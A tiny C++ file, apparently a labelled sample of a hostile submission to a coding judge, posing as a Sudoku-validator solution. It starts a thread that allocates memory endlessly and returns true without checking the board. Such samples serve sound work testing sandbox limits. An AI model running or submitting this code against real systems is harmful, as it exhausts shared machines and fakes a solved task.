// Grows on a thread of its own.
// Category: memory
class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        thread([] { vector<vector<int>> all; for (;;) all.emplace_back(1 << 18, 1); }).join();
        return true;
    }
};
